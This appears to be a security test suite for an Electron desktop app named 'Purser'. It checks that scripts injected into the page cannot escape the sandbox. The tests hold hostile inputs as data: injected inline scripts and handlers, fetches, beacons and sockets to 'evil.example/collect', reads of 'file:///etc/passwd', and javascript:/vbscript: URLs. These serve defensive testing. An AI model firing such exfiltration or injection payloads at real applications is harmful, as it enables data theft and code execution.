import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchApp } from '../support/app-driver.ts';
import type { DrivenApp } from '../support/app-runtime.ts';

/*
 * Attacks from inside the page: what somebody could do who got a script to run there. Each must come to nothing, and the page must
 * still be ours afterwards.
 */

type Purser = { purser: { ask: (name: string, input: object) => Promise<unknown> } };

let app: DrivenApp;
beforeAll(async () => {
  app = await launchApp();
});
afterAll(async () => {
  await app.close();
});

async function expectOurPage(): Promise<void> {
  // Chromium shows "Loading …" for as long as it has not given up a place it was refused.
  await expect.poll(() => app.page.title()).toContain('Purser');
  expect(await app.page.evaluate(() => typeof (window as { purser?: unknown }).purser)).toBe('object');
}

describe('the page', () => {
  test('has the three functions of the bridge, and nothing of Node or Electron', async () => {
    const seen = await app.page.evaluate(() => {
      const all = window as unknown as Record<string, unknown>;
      const names = [
        'require',
        'process',
        'module',
        'global',
        'Buffer',
        '__dirname',
        'electron',
        'ipcRenderer',
      ];
      return { bridge: Object.keys(all['purser'] as object), found: names.filter((name) => name in all) };
    });
    expect(seen.bridge.toSorted()).toEqual(['ask', 'listen', 'nameFile']);
    expect(seen.found).toEqual([]);
  });

  test('cannot change the bridge', async () => {
    const changed = await app.page.evaluate(() => {
      const all = window as unknown as { purser: Record<string, unknown> };
      const before = all.purser['ask'];
      for (const attempt of [
        () => (all.purser['ask'] = () => 'mine'),
        () => (all.purser['added'] = 1),
        () => (all.purser = {}),
        () => delete (all as { purser?: unknown }).purser,
      ]) {
        try {
          attempt();
        } catch {
          // Refused loudly is as good.
        }
      }
      return { same: all.purser['ask'] === before, added: 'added' in all.purser };
    });
    expect(changed).toEqual({ same: true, added: false });
  });

  test('does not reach the preload through what every script shares', async () => {
    const answer = await app.page.evaluate(async () => {
      const seen: string[] = [];
      const restore: (() => void)[] = [];
      const spy = (owner: object, name: string): void => {
        const original = Reflect.get(owner, name) as (...args: unknown[]) => unknown;
        restore[restore.length] = () => void Reflect.set(owner, name, original);
        Reflect.set(owner, name, function stolen(this: unknown, ...args: unknown[]) {
          seen.push(String(args[0]));
          return Reflect.apply(original, this, args);
        });
      };
      for (const name of ['get', 'set', 'has']) spy(Map.prototype, name);
      for (const name of ['map', 'push', 'find', 'concat']) spy(Array.prototype, name);
      spy(JSON, 'parse');
      spy(JSON, 'stringify');
      const bridge = (window as unknown as Purser).purser;
      const told = await bridge.ask('imports.list', {});
      for (const back of restore) back();
      return { told, channels: seen.filter((text) => text.includes('purser:')) };
    });
    expect(answer).toEqual({ told: { ok: true, value: [] }, channels: [] });
  });

  test('is on a secure origin of its own', async () => {
    const origin = await app.page.evaluate(() => ({ secure: isSecureContext, protocol: location.protocol }));
    expect(origin.secure).toBe(true);
    expect(origin.protocol).toMatch(app.runtime === 'Electron' ? /^app:$/u : /^https:$/u);
  });
});

describe('the policy', () => {
  type Attempt = readonly [string, () => Promise<boolean>];
  const attempts: readonly Attempt[] = [
    [
      'an inline script',
      async () =>
        app.page.evaluate(() => {
          const script = document.createElement('script');
          script.textContent = 'window.attacked = true;';
          document.head.append(script);
          return 'attacked' in window;
        }),
    ],
    [
      'an inline handler',
      async () =>
        app.page.evaluate(async () => {
          document.body.insertAdjacentHTML(
            'beforeend',
            '<img src="data:image/png;base64,x" onerror="window.attacked = true">',
          );
          await new Promise((resolve) => setTimeout(resolve, 300));
          return 'attacked' in window;
        }),
    ],
    [
      'a script of another site',
      async () =>
        app.page.evaluate(
          () =>
            new Promise<boolean>((resolve) => {
              const script = document.createElement('script');
              script.src = 'https://evil.example/x.js';
              script.addEventListener('load', () => {
                resolve(true);
              });
              script.addEventListener('error', () => {
                resolve(false);
              });
              document.head.append(script);
            }),
        ),
    ],
    ...(['https://evil.example/collect', 'file:///etc/passwd', '/index.html'] as const).map(
      (url): Attempt => [
        `fetching ${url}`,
        async () =>
          app.page.evaluate(
            (given) =>
              fetch(given).then(
                () => true,
                () => false,
              ),
            url,
          ),
      ],
    ),
    [
      'a picture of another site',
      async () =>
        app.page.evaluate(
          () =>
            new Promise<boolean>((resolve) => {
              const image = new Image();
              image.addEventListener('load', () => {
                resolve(true);
              });
              image.addEventListener('error', () => {
                resolve(false);
              });
              image.src = 'https://evil.example/pixel.png';
            }),
        ),
    ],
    [
      'a socket',
      async () =>
        app.page.evaluate(
          () =>
            new Promise<boolean>((resolve) => {
              try {
                const socket = new WebSocket('wss://evil.example/');
                socket.addEventListener('open', () => {
                  resolve(true);
                });
                socket.addEventListener('error', () => {
                  resolve(false);
                });
              } catch {
                resolve(false);
              }
            }),
        ),
    ],
    [
      'a beacon',
      async () =>
        app.page.evaluate(() => navigator.sendBeacon('https://evil.example/collect', 'x')).catch(() => false),
    ],
  ];

  test.each(attempts)('stops %s', async (what, attempt) => {
    const came = await attempt();
    // `sendBeacon` says only that it was queued; that nothing left is seen below.
    expect(what === 'a beacon' || !came).toBe(true);
  });

  test('stops text that is to become code, as it is for every script of the page', async () => {
    // Playwright's own evaluation is not held by the policy, so the page's scripts are asked: one of ours says `eval`.
    const refused = await app.page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => {
            resolve(event.effectiveDirective);
          });
          const link = document.createElement('a');
          link.href = 'javascript:window.attacked = true';
          document.body.append(link);
          link.click();
          setTimeout(() => {
            resolve('nothing was refused');
          }, 2000);
        }),
    );
    expect(refused).toMatch(/^script-src/u);
    expect(await app.page.evaluate(() => 'attacked' in window)).toBe(false);
  });

  test('lets no frame in', async () => {
    await app.page.evaluate(() => {
      for (const source of ['https://evil.example/', 'data:text/html,hello', 'about:blank', '/index.html']) {
        const frame = document.createElement('iframe');
        frame.src = source;
        document.body.append(frame);
      }
    });
    await app.page.waitForTimeout(500);
    const bridges = await Promise.all(
      app.page
        .frames()
        .slice(1)
        .map((frame) => frame.evaluate(() => 'purser' in window).catch(() => false)),
    );
    expect(bridges.every((has) => !has)).toBe(true);
    await app.page.reload();
    await expectOurPage();
  });

  test('sent nothing to the network in all of this', async () => {
    expect((await app.systemRecord()).networkRequests).toEqual([]);
  });
});

describe('the window', () => {
  const places = [
    'https://evil.example/',
    'http://127.0.0.1:9/',
    'file:///etc/passwd',
    'data:text/html,<title>evil</title>',
    'app://purser/other.html',
    'app://evil/index.html',
    'ms-settings:privacy',
    'javascript:document.body.remove()',
    'vbscript:msgbox(1)',
  ];

  test.each(places)('does not go to %s', async (url) => {
    await app.page
      .evaluate((given) => {
        location.assign(given);
      }, url)
      .catch(() => undefined);
    await app.page.waitForTimeout(200);
    await expectOurPage();
  });

  test('does not follow a link or a form', async () => {
    await app.page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="evil" href="https://evil.example/">x</a><form id="form" action="https://evil.example/" method="post"></form>',
      );
      document.querySelector<HTMLAnchorElement>('#evil')?.click();
      document.querySelector<HTMLFormElement>('#form')?.submit();
    });
    await app.page.waitForTimeout(200);
    await expectOurPage();
  });

  test('opens no other window', async () => {
    const pages = app.page.context().pages().length;
    await app.page.evaluate((urls) => {
      for (const url of urls) window.open(url);
    }, places);
    await app.page.waitForTimeout(500);
    expect(app.page.context().pages().length).toBe(pages);
    await expectOurPage();
  });

  test('takes a dropped link for nothing', async () => {
    const session = await app.page.context().newCDPSession(app.page);
    const data = {
      items: [{ mimeType: 'text/uri-list', data: 'https://evil.example/', title: 'evil' }],
      dragOperationsMask: 1,
    };
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
      await session.send('Input.dispatchDragEvent', { type, x: 400, y: 300, data });
    await app.page.waitForTimeout(300);
    await expectOurPage();
  });

  test('is granted no permission', async () => {
    const states = await app.page.evaluate(() =>
      Promise.all(
        ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi'].map((name) =>
          navigator.permissions
            .query({ name: name as PermissionName })
            .then(({ state }) => state)
            .catch(() => 'denied'),
        ),
      ),
    );
    expect(states).not.toContain('granted');
  });

  test('hands only addresses of the short list to the browser', async () => {
    const open = (url: string): Promise<unknown> =>
      app.page.evaluate(
        (given) =>
          (
            window as unknown as { purser: { ask: (name: string, input: object) => Promise<unknown> } }
          ).purser.ask('app.open-link', { url: given }),
        url,
      );
    const good = 'https://www.linkedin.com/help/sales-navigator/answer/a1657264';
    for (const url of [
      'javascript:alert(1)',
      'file:///etc/passwd',
      'https://evil.example/',
      'smb://server/share',
    ])
      expect(await open(url)).toMatchObject({ ok: false });
    expect(await open(good)).toMatchObject({ ok: true });
    expect((await app.systemRecord()).openedLinks).toEqual([good]);
  });
});
